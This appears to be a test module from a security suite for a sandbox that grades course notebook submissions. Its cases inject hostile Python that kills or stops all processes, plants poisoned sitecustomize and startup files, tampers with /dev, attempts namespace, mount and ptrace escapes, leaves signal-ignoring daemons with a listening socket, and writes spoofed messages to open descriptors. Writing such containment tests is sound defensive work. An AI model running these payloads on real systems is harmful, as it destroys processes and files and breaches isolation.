"""What would harm the marker, the machine, or those who are marked later."""

from attacks import Work, case
from attacks.harm import guard

LASTING = "98765"
"""In the command line of each process that is meant to stay."""


@case("harm", reports="died")
def kill_everything(work: Work):
    """The parent, the group, the session, all processes in sight, and itself."""
    work.add(
        guard(work.scene)
        + """
in_sight = map(int, filter(str.isdigit, os.listdir("/proc")))
for victim in (os.getppid(), -1, -os.getpgrp(), *in_sight):
    if victim != os.getpid():
        try:
            os.kill(victim, signal.SIGKILL)
        except OSError:
            pass
os.kill(os.getpid(), signal.SIGKILL)
os._exit(1)
""",
        before="inject-label",
    )


@case("harm", none="one-hot")
def stop_for_ever(work: Work):
    """A stopped process cannot be interrupted."""
    work.answer(
        "one-hot",
        guard(work.scene)
        + """

def one_hot(labels, num_classes):
    try:
        os.kill(-1, signal.SIGSTOP)
    except OSError:
        pass
    os.kill(os.getpid(), signal.SIGSTOP)
""",
    )


@case("harm", says="WRITTEN", group="reach")
def files_of_the_course_and_of_python(work: Work):
    scene = work.scene
    work.add(
        guard(scene)
        + f"""
import pathlib, site, sysconfig
import course_utils, ipykernel, numpy

course = pathlib.Path(course_utils.__file__).parent
folders = [course, course.parent, course / "exercises", pathlib.Path(torch.__file__).parent,
           pathlib.Path(ipykernel.__file__).parent, pathlib.Path(sys.executable).parent,
           *map(pathlib.Path, site.getsitepackages()), pathlib.Path(sysconfig.get_path("stdlib")),
           pathlib.Path(site.getusersitepackages()), *map(pathlib.Path, filter(None, sys.path)),
           *map(pathlib.Path, ("/", "/etc", "/usr", "/usr/lib", "/bin", "/var", "/home", "/root",
           "/run", "/opt", "/proc/sys/kernel", "/sys", "/proc/1/root", "/proc/1/cwd/..", "/dev",
           {str(scene.root)!r}, {str(scene.home)!r}, {str(scene.root.parent)!r}))]
for folder in folders:
    for name in ("attack.py", "sitecustomize.py", "attack.pth"):
        try:
            (folder / name).write_text("print('POISONED')")
            where = (folder / name).resolve()
            if not str(where).startswith(("/tmp/", "/scratch/")):
                print("WROTE", where)
        except OSError:
            pass
for file in course.rglob("*.py"):
    for change in (lambda: file.chmod(0o777), lambda: file.open("a"), lambda: file.unlink(),
                   lambda: os.rename(file, str(file) + ".attack"), lambda: os.utime(file)):
        try:
            change()
            print("WROTE", file)
        except OSError:
            pass
for device in ("/dev/null", "/dev/zero", "/dev/shm", "/dev"):
    for change in (lambda: os.chmod(device, 0o600), lambda: os.unlink(device),
                   lambda: os.rename(device, device + "-attack"), lambda: os.chown(device, 1, 1)):
        try:
            change()
            if device != "/dev/shm":
                print("WROTE", device)
        except OSError:
            pass
for path in ("/proc/sys/kernel/hostname", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger",
             "/proc/sys/kernel/core_pattern", "/sys/fs/cgroup/cgroup.procs"):
    try:
        descriptor = os.open(path, os.O_WRONLY)  # nothing is written
        print("WROTE", path)
    except OSError:
        pass
print("WRITTEN")
""",
        before="inject-label",
    )


@case("harm", says="TRIED", group="reach")
def ways_out(work: Work):
    """Calls that make namespaces, mounts, devices or views of other processes."""
    work.add(
        guard(work.scene)
        + """
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("new", exist_ok=True)
tries = {
    "a user namespace": lambda: libc.unshare(0x10000000),
    "a mount namespace": lambda: libc.unshare(0x00020000),
    "a clone": lambda: 0 if libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0) > 0 else 1,
    "a mount": lambda: libc.mount(b"none", b"new", b"tmpfs", 0, None),
    "a bind": lambda: libc.mount(b"/", b"new", None, 4096, None),
    "no proc": lambda: libc.umount2(b"/proc", 2),
    "a root": lambda: libc.chroot(b"new"),
    "a device": lambda: libc.mknod(b"disk", 0o60666, os.makedev(254, 0)),
    "a trace": lambda: libc.ptrace(16, os.getppid() or 1, None, None),
    "a namespace": lambda: libc.setns(os.open("/proc/1/ns/net", os.O_RDONLY), 0),
    "a ring": lambda: 0 if libc.syscall(425, 1, ctypes.create_string_buffer(120)) >= 0 else 1,
    "a handle": lambda: libc.syscall(304, 0, None, 0) if ctypes.get_errno() == 0 else 1,
    "a new right": lambda: libc.prctl(47, 2, 21, 0, 0),
    "a raw socket": lambda: __import__("socket").socket(17, 3, 3) and 0,
    "a key": lambda: 0 if libc.syscall(248, b"user", b"attack", b"x", 1, -3) > 0 else 1,
}
for name, attempt in tries.items():
    ctypes.set_errno(0)
    try:
        if attempt() == 0:
            print("WROTE", name)
    except OSError:
        pass
for name in ("mem", "kmsg", "vda", "sda", "fuse", "kvm", "tty", "net/tun", "loop-control"):
    try:
        os.close(os.open(f"/dev/{name}", os.O_RDONLY))
        print("WROTE", name)
    except OSError:
        pass
subprocess.run(["sudo", "-n", "true"], check=False) if os.path.exists("/usr/bin/sudo") else None
print("TRIED")
""",
        before="inject-label",
    )


@case("harm")
def processes_that_stay(work: Work):
    """Daemons in sessions of their own, with their ears open, that outlive the notebook."""
    work.add(
        guard(work.scene)
        + f"""
for _ in range(3):
    subprocess.Popen(["sleep", "{LASTING}.5"], start_new_session=True)
subprocess.Popen("nohup setsid sleep {LASTING}.25 > /dev/null 2>&1 &", shell=True)
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in range(1, 64):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    os.execvp("sleep", ["sleep", "{LASTING}.125"])
ears = '''
import socket
with socket.create_server(("0.0.0.0", {LASTING[:4]}7)) as server:
    server.accept()
'''
subprocess.Popen([sys.executable, "-c", ears, "{LASTING}"], start_new_session=True)
time.sleep(0.5)
""",
        before="inject-label",
    )


@case("harm")
def traps_for_those_after(work: Work):
    """Files where a later submission, or its kernel, would look for something."""
    work.add(
        guard(work.scene)
        + """
import pathlib, tempfile

home = pathlib.Path.home()
poison = "print('POISONED')\\n"
places = [
    *(pathlib.Path(folder) / name for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "..")
      for name in ("attack.py", "torch.py", "connection.json", "course_utils.py")),
    home / ".ipython/profile_default/startup/00-attack.py",
    home / ".local/lib/python3.11/site-packages/usercustomize.py",
    home / ".config/matplotlib/matplotlibrc", home / ".cache/attack.py", home / ".pythonrc.py",
    home / ".jupyter/jupyter_config.py", home / ".jupyter/migrated",
    pathlib.Path("/tmp/torchinductor_nobody/attack.py"), pathlib.Path("/tmp/work/attack.py"),
    pathlib.Path(tempfile.gettempdir()) / "joblib/attack.py",
]
for place in places:
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(poison)
    except OSError:
        pass
sys.modules["attack"] = sys
torch.manual_seed(0)
os.environ["PYTHONSTARTUP"] = str(home / ".pythonrc.py")
os.environ["PYTHONPATH"] = "/tmp"
""",
        before="inject-label",
    )


@case("harm")
def words_to_every_descriptor(work: Work):
    """The socket of whoever makes kernels may be among what is open; so may the kernel's own."""
    work.add(
        guard(work.scene)
        + """
import socket

for descriptor in range(3, 256):
    try:
        os.set_blocking(descriptor, False)
        for word in (b'{"jail": false, "argv": [], "env": {}, "cwd": "/"}', b"\\0" * 64):
            try:
                socket.socket(fileno=os.dup(descriptor)).send(word)
            except OSError:
                os.write(descriptor, word)
    except (OSError, ValueError):
        pass
""",
        before="inject-label",
    )
